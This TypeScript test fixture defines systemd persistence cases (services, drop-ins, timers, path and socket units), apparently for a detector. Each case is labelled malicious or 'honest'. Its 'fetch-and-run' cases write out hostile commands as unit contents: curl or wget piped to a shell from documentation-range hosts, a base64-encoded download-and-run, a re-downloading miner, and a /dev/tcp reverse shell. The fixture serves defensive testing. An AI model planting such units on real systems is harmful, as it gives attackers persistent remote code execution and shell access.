/** Cases of systemd; nothing in them is ever run, and all addresses are of the documentation ranges. */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const etc = '/etc/systemd/system';
const usr = '/usr/lib/systemd/system';
const wanted = `${etc}/multi-user.target.wants`;

const service = (exec: string, rest = ''): string =>
  `[Unit]\nDescription=System service\nAfter=network.target\n\n[Service]\nType=simple\n${rest}ExecStart=${exec}\n\n[Install]\nWantedBy=multi-user.target\n`;
const encoded = Buffer.from('wget -qO- http://192.0.2.31/s | bash').toString('base64');

const services: readonly MechanismCase[] = [
  {
    mechanism: 'systemd-service',
    dress: 'fetch-and-run',
    what: 'a service that fetches through a shell',
    planted: {
      [`${etc}/sshc.service`]: service(
        "/bin/bash -c 'curl -fsSL http://192.0.2.30/c.sh | bash'",
        'Restart=always\nRestartSec=30\n',
      ),
      [`${wanted}/sshc.service`]: { link: `${etc}/sshc.service` },
    },
  },
  {
    mechanism: 'systemd-service',
    dress: 'unowned-binary',
    what: 'a foreign program beside those of systemd',
    planted: {
      [`${etc}/systemd-netmon.service`]: service('/usr/lib/systemd/systemd-netmon', 'Restart=always\n'),
      [`${wanted}/systemd-netmon.service`]: { link: `${etc}/systemd-netmon.service` },
      '/usr/lib/systemd/systemd-netmon': inertProgram(),
    },
  },
  {
    mechanism: 'systemd-service',
    dress: 'owned-edit',
    what: 'a line inside the unit of a package',
    packaged: {
      [`${usr}/rsyslog.service`]: service('/usr/sbin/rsyslogd -n'),
      '/usr/sbin/rsyslogd': inertProgram(3000),
    },
    planted: {
      [`${usr}/rsyslog.service`]: service('/usr/sbin/rsyslogd -n', 'ExecStartPre=-/usr/bin/env sleep 0\n'),
    },
  },
  {
    mechanism: 'systemd-service',
    dress: 'honest',
    what: 'node_exporter from a tarball, a web application, a runner, and a package',
    packaged: {
      [`${usr}/nginx.service`]: service('/usr/sbin/nginx -g "daemon on;"'),
      '/usr/sbin/nginx': inertProgram(5000),
    },
    planted: {
      [`${etc}/node_exporter.service`]: service(
        '/opt/node_exporter-1.8.2.linux-amd64/node_exporter',
        'User=nobody\nRestart=always\n',
      ),
      [`${wanted}/node_exporter.service`]: { link: `${etc}/node_exporter.service` },
      '/opt/node_exporter-1.8.2.linux-amd64/node_exporter': inertProgram(9000),
      [`${etc}/app.service`]: service(
        '/usr/bin/node /srv/app/server.js',
        'User=www-data\nWorkingDirectory=/srv/app\nRestart=on-failure\n',
      ),
      [`${wanted}/app.service`]: { link: `${etc}/app.service` },
      '/srv/app/server.js': "require('http').createServer().listen(3000);\n",
      [`${etc}/gitlab-runner.service`]: service(
        '/usr/local/bin/gitlab-runner "run" "--config" "/etc/gitlab-runner/config.toml"',
        'Restart=always\nRestartSec=120\n',
      ),
      [`${wanted}/gitlab-runner.service`]: { link: `${etc}/gitlab-runner.service` },
      '/usr/local/bin/gitlab-runner': inertProgram(9100),
      [`${etc}/dbus-org.freedesktop.timesync1.service`]: { link: '/dev/null' },
    },
  },
  {
    mechanism: 'systemd-drop-in',
    dress: 'fetch-and-run',
    what: 'a drop-in of cron that decodes and runs',
    packaged: { [`${usr}/cron.service`]: service('/usr/sbin/cron -f') },
    planted: {
      [`${wanted}/cron.service`]: { link: `${usr}/cron.service` },
      [`${etc}/cron.service.d/10-local.conf`]: `[Service]\nExecStartPre=/bin/sh -c "echo ${encoded} | base64 -d | sh"\n`,
    },
  },
  {
    mechanism: 'systemd-drop-in',
    dress: 'unowned-binary',
    what: 'a drop-in that starts a foreign program after ssh',
    packaged: { [`${usr}/ssh.service`]: service('/usr/sbin/sshd -D') },
    planted: {
      [`${wanted}/ssh.service`]: { link: `${usr}/ssh.service` },
      [`${etc}/ssh.service.d/override.conf`]: '[Service]\nExecStartPost=/usr/sbin/sshd-keyd\n',
      '/usr/sbin/sshd-keyd': inertProgram(),
    },
  },
  {
    mechanism: 'systemd-drop-in',
    dress: 'owned-edit',
    what: 'the drop-in of a package was edited',
    packaged: {
      [`${usr}/user@.service.d/10-login-barrier.conf`]: '[Unit]\nAfter=systemd-user-sessions.service\n',
    },
    planted: {
      [`${usr}/user@.service.d/10-login-barrier.conf`]:
        '[Unit]\nAfter=systemd-user-sessions.service\n[Service]\nExecStartPost=-/usr/bin/env true\n',
    },
  },
  {
    mechanism: 'systemd-drop-in',
    dress: 'honest',
    what: 'a proxy and limits for docker, an override of the owner',
    packaged: {
      [`${usr}/docker.service`]: service('/usr/bin/dockerd -H fd://'),
      '/usr/bin/dockerd': inertProgram(7000),
    },
    planted: {
      [`${etc}/docker.service.d/http-proxy.conf`]:
        '[Service]\nEnvironment="HTTP_PROXY=http://192.0.2.90:3128"\n',
      [`${etc}/docker.service.d/override.conf`]:
        '[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// --log-level warn\nLimitNOFILE=1048576\n',
    },
  },
];

const variables: readonly MechanismCase[] = [
  {
    mechanism: 'systemd-service',
    dress: 'fetch-and-run',
    what: 'a command in the file of variables that a unit reads',
    planted: {
      [`${etc}/notify.service`]: `[Service]\nEnvironmentFile=-/etc/default/notify\nExecStart=/bin/sh -c '\${RUN}'\n[Install]\nWantedBy=multi-user.target\n`,
      [`${etc}/multi-user.target.wants/notify.service`]: { link: `${etc}/notify.service` },
      '/etc/default/notify': 'RUN="curl -fsSL http://192.0.2.91/n | bash"\n',
    },
  },
  {
    mechanism: 'systemd-service',
    dress: 'honest',
    what: 'a service of the owner whose options, address and token stand in its file of variables',
    planted: {
      [`${etc}/app.service`]: `[Service]\nEnvironment=NODE_ENV=production PORT=8080\nEnvironmentFile=/etc/default/app\nWorkingDirectory=/srv/app\nExecStart=/srv/app/bin/serve --port \${PORT} $OPTIONS\nExecStartPost=-/usr/bin/curl -fsS \${PING}\n[Install]\nWantedBy=multi-user.target\n`,
      [`${etc}/multi-user.target.wants/app.service`]: { link: `${etc}/app.service` },
      '/etc/default/app':
        'OPTIONS="--user app --pool 8"\nPING=https://checks.example.org/ping/9a\nTOKEN=abc\n',
      '/srv/app/bin/serve': inertProgram(),
    },
  },
];

const starters: readonly MechanismCase[] = [
  {
    mechanism: 'systemd-timer',
    dress: 'fetch-and-run',
    what: 'a timer of a service that fetches',
    planted: {
      [`${etc}/upd.timer`]:
        '[Timer]\nOnBootSec=1min\nOnUnitActiveSec=5min\n[Install]\nWantedBy=timers.target\n',
      [`${etc}/timers.target.wants/upd.timer`]: { link: `${etc}/upd.timer` },
      [`${etc}/upd.service`]:
        "[Service]\nType=oneshot\nExecStart=/bin/sh -c 'wget -q -O- http://192.0.2.32/u | sh'\n",
    },
  },
  {
    mechanism: 'systemd-timer',
    dress: 'unowned-binary',
    what: 'a timer of a foreign program',
    planted: {
      [`${etc}/fwupd-sync.timer`]: '[Timer]\nOnCalendar=*:0/10\n[Install]\nWantedBy=timers.target\n',
      [`${etc}/timers.target.wants/fwupd-sync.timer`]: { link: `${etc}/fwupd-sync.timer` },
      [`${etc}/fwupd-sync.service`]: '[Service]\nExecStart=/usr/libexec/fwupd-sync\n',
      '/usr/libexec/fwupd-sync': inertProgram(),
    },
  },
  {
    mechanism: 'systemd-timer',
    dress: 'owned-edit',
    what: 'the script that the timer of a package runs was edited',
    packaged: {
      [`${usr}/man-db.timer`]: '[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n',
      [`${usr}/man-db.service`]: '[Service]\nType=oneshot\nExecStart=/usr/share/man-db/refresh\n',
      '/usr/share/man-db/refresh': '#!/bin/sh\nexit 0\n',
    },
    planted: {
      [`${etc}/timers.target.wants/man-db.timer`]: { link: `${usr}/man-db.timer` },
      '/usr/share/man-db/refresh': '#!/bin/sh\n/usr/bin/env true &\nexit 0\n',
    },
  },
  {
    mechanism: 'systemd-timer',
    dress: 'honest',
    what: 'certbot of a package, and a backup of the owner',
    packaged: {
      [`${usr}/certbot.timer`]:
        '[Timer]\nOnCalendar=*-*-* 00,12:00:00\nRandomizedDelaySec=43200\n[Install]\nWantedBy=timers.target\n',
      [`${usr}/certbot.service`]:
        '[Service]\nType=oneshot\nExecStart=/usr/bin/certbot -q renew --no-random-sleep-on-renew\n',
      '/usr/bin/certbot': inertProgram(6000),
    },
    planted: {
      [`${etc}/timers.target.wants/certbot.timer`]: { link: `${usr}/certbot.timer` },
      [`${etc}/borg.timer`]: '[Timer]\nOnCalendar=02:30\n[Install]\nWantedBy=timers.target\n',
      [`${etc}/timers.target.wants/borg.timer`]: { link: `${etc}/borg.timer` },
      [`${etc}/borg.service`]: '[Service]\nType=oneshot\nExecStart=/usr/local/sbin/borg-backup\n',
      '/usr/local/sbin/borg-backup': '#!/bin/bash\nset -eu\nborg create /srv/borg::{now} /etc /home\n',
    },
  },
  {
    mechanism: 'systemd-path',
    dress: 'fetch-and-run',
    what: 'a path unit that fetches when the miner is deleted',
    planted: {
      [`${etc}/keep.path`]:
        '[Path]\nPathChanged=/usr/bin/.kd\nUnit=keep.service\n[Install]\nWantedBy=multi-user.target\n',
      [`${wanted}/keep.path`]: { link: `${etc}/keep.path` },
      [`${etc}/keep.service`]:
        "[Service]\nExecStart=/bin/sh -c 'curl -s http://192.0.2.33/kd -o /usr/bin/.kd; chmod 755 /usr/bin/.kd; /usr/bin/.kd'\n",
    },
  },
  {
    mechanism: 'systemd-path',
    dress: 'unowned-binary',
    what: 'a path unit of a foreign program',
    planted: {
      [`${etc}/cups-watch.path`]:
        '[Path]\nPathModified=/etc/passwd\nUnit=cups-watch.service\n[Install]\nWantedBy=multi-user.target\n',
      [`${wanted}/cups-watch.path`]: { link: `${etc}/cups-watch.path` },
      [`${etc}/cups-watch.service`]: '[Service]\nExecStart=/usr/sbin/cups-watchd\n',
      '/usr/sbin/cups-watchd': inertProgram(),
    },
  },
  {
    mechanism: 'systemd-path',
    dress: 'owned-edit',
    what: 'the path unit of a package starts another service now',
    packaged: {
      [`${usr}/apport.path`]: '[Path]\nDirectoryNotEmpty=/var/crash\n',
      [`${usr}/apport.service`]: '[Service]\nExecStart=/usr/bin/true\n',
    },
    planted: {
      [`${usr}/apport.path`]: '[Path]\nDirectoryNotEmpty=/var/crash\nPathExists=/etc/passwd\n',
    },
  },
  {
    mechanism: 'systemd-path',
    dress: 'honest',
    what: 'a converter of uploads',
    planted: {
      [`${etc}/uploads.path`]:
        '[Path]\nDirectoryNotEmpty=/srv/uploads\n[Install]\nWantedBy=multi-user.target\n',
      [`${wanted}/uploads.path`]: { link: `${etc}/uploads.path` },
      [`${etc}/uploads.service`]: '[Service]\nExecStart=/usr/local/bin/convert-uploads\n',
      '/usr/local/bin/convert-uploads': '#!/bin/sh\nfor f in /srv/uploads/*; do mv "$f" /srv/done/; done\n',
    },
  },
  {
    mechanism: 'systemd-socket',
    dress: 'fetch-and-run',
    what: 'a socket that hands a shell to whoever connects',
    planted: {
      [`${etc}/diag.socket`]:
        '[Socket]\nListenStream=0.0.0.0:41111\nAccept=yes\n[Install]\nWantedBy=sockets.target\n',
      [`${etc}/sockets.target.wants/diag.socket`]: { link: `${etc}/diag.socket` },
      [`${etc}/diag@.service`]:
        "[Service]\nExecStart=-/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.34/4444 0>&1'\nStandardInput=socket\n",
    },
  },
  {
    mechanism: 'systemd-socket',
    dress: 'unowned-binary',
    what: 'a socket of a foreign program',
    planted: {
      [`${etc}/rpcbind2.socket`]: '[Socket]\nListenStream=112\n[Install]\nWantedBy=sockets.target\n',
      [`${etc}/sockets.target.wants/rpcbind2.socket`]: { link: `${etc}/rpcbind2.socket` },
      [`${etc}/rpcbind2.service`]: '[Service]\nExecStart=/usr/sbin/rpcbind2\n',
      '/usr/sbin/rpcbind2': inertProgram(),
    },
  },
  {
    mechanism: 'systemd-socket',
    dress: 'owned-edit',
    what: 'the socket of a package listens at another place now',
    packaged: {
      [`${usr}/uuidd.socket`]: '[Socket]\nListenStream=/run/uuidd/request\n',
      [`${usr}/uuidd.service`]: '[Service]\nExecStart=/usr/sbin/cron\n',
    },
    planted: {
      [`${usr}/uuidd.socket`]: '[Socket]\nListenStream=/run/uuidd/request\nListenStream=0.0.0.0:112\n',
    },
  },
  {
    mechanism: 'systemd-socket',
    dress: 'honest',
    what: 'ssh by socket, and a small web service',
    packaged: {
      [`${usr}/ssh.socket`]: '[Socket]\nListenStream=22\nAccept=no\n[Install]\nWantedBy=sockets.target\n',
      [`${usr}/ssh.service`]: service('/usr/sbin/sshd -D'),
    },
    planted: {
      [`${etc}/sockets.target.wants/ssh.socket`]: { link: `${usr}/ssh.socket` },
      [`${etc}/hello.socket`]: '[Socket]\nListenStream=127.0.0.1:8081\n[Install]\nWantedBy=sockets.target\n',
      [`${etc}/sockets.target.wants/hello.socket`]: { link: `${etc}/hello.socket` },
      [`${etc}/hello.service`]: '[Service]\nExecStart=/opt/hello/hello\nDynamicUser=yes\n',
      '/opt/hello/hello': inertProgram(8000),
    },
  },
];

export const cases: readonly MechanismCase[] = [...services, ...variables, ...starters];
